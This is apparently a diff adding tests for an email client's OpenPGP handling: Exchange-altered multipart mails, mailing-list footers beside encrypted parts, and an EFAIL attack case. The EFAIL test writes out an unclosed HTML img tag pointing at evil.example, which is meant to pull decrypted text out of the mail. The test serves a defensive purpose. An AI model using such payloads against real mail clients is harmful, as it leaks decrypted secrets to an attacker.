@@ -125,6 +125,44 @@ describe('a whole mail', () => {
     })
   })
 
+  it.each([
+    ['blank HTML', 'text/html', '<html><head><meta charset="utf-8"></head><body><p>&nbsp;</p></body></html>'],
+    ['an empty text', 'text/plain', ''],
+  ])('is read as a whole although Exchange changed its structure and put %s in front', async (_what, type, blank) => {
+    const broken = around(await sealedText(textEntity('It fixes it.')), 'multipart/mixed').replace(
+      '--e\r\n',
+      lines('--e', `Content-Type: ${type}`, '', blank, '--e', ''),
+    )
+    const { text, protection } = await read(broken)
+    expect(text).toBe('It fixes it.')
+    expect(protection).toMatchObject({ encryption: 'openpgp', covers: 'all', signatures: [{ state: 'good' }] })
+  })
+
+  it.each(['multipart/mixed', 'multipart/encrypted'])(
+    'is decrypted beside the footer of a list, which is outside (%s)',
+    async (type) => {
+      const footer = lines('--e', 'Content-Type: text/plain', '', 'Unsubscribe here.', '--e--')
+      const broken = around(await sealedText(textEntity('It fixes it.')), type).replace('--e--', footer)
+      const { text, protection, attachments } = await read(broken)
+      expect(text.split('\n')).toEqual([
+        '[not encrypted, not signed]',
+        '| Unsubscribe here.',
+        `[encrypted, signed with …${robin.fingerprint.slice(-4)}]`,
+        '| It fixes it.',
+      ])
+      expect(protection).toMatchObject({ encryption: 'openpgp', encryptedInPart: true, covers: 'part' })
+      expect(attachments).toEqual([])
+    },
+  )
+
+  it('to another key and beside a footer is kept as it came', async () => {
+    const foreign = await encryptAndSign(bytes('x'), { to: [mallory.public], signer: robin.secret }, NOW)
+    const footer = lines('--e', 'Content-Type: text/plain', '', 'Unsubscribe here.', '--e--')
+    const { protection, attachments } = await read(around(foreign, 'multipart/mixed').replace('--e--', footer))
+    expect(protection).toMatchObject({ encryption: 'unreadable', unreadable: 'no-key', covers: 'part' })
+    expect(attachments).toHaveLength(2)
+  })
+
   it('signed with S/MIME is shown so, and not checked', async () => {
     const mail = lines(
       'From: robin@sample.example',
@@ -279,6 +317,18 @@ describe('an attack', () => {
     const sections = text.split(/^(?=\[)/mu).map((section) => section.trimEnd())
     expect(sections).toContain(`[encrypted, signed with …${robin.fingerprint.slice(-4)}]\n| The password is kumquat.`)
     expect(sections.filter((section) => section.includes('evil.example')).join('')).not.toContain('kumquat')
+  })
+
+  it('EFAIL: HTML in front of the two parts of an encryption never encloses the decrypted text', async () => {
+    const html = lines('--e', 'Content-Type: text/html', '', 'Hi <img src="https://evil.example/', '--e', '')
+    const mail = around(await sealedText(textEntity('The password is kumquat.')), 'multipart/mixed')
+    const { text, protection } = await read(mail.replace('--e\r\n', html))
+    expect(protection.covers).toBe('part')
+    const sections = text.split(/^(?=\[)/mu).map((section) => section.trimEnd())
+    expect(sections).toEqual([
+      '[not encrypted, not signed]\n| Hi',
+      `[encrypted, signed with …${robin.fingerprint.slice(-4)}]\n| The password is kumquat.`,
+    ])
   })
 
   it('covert content: what a style sheet hides is shown', async () => {
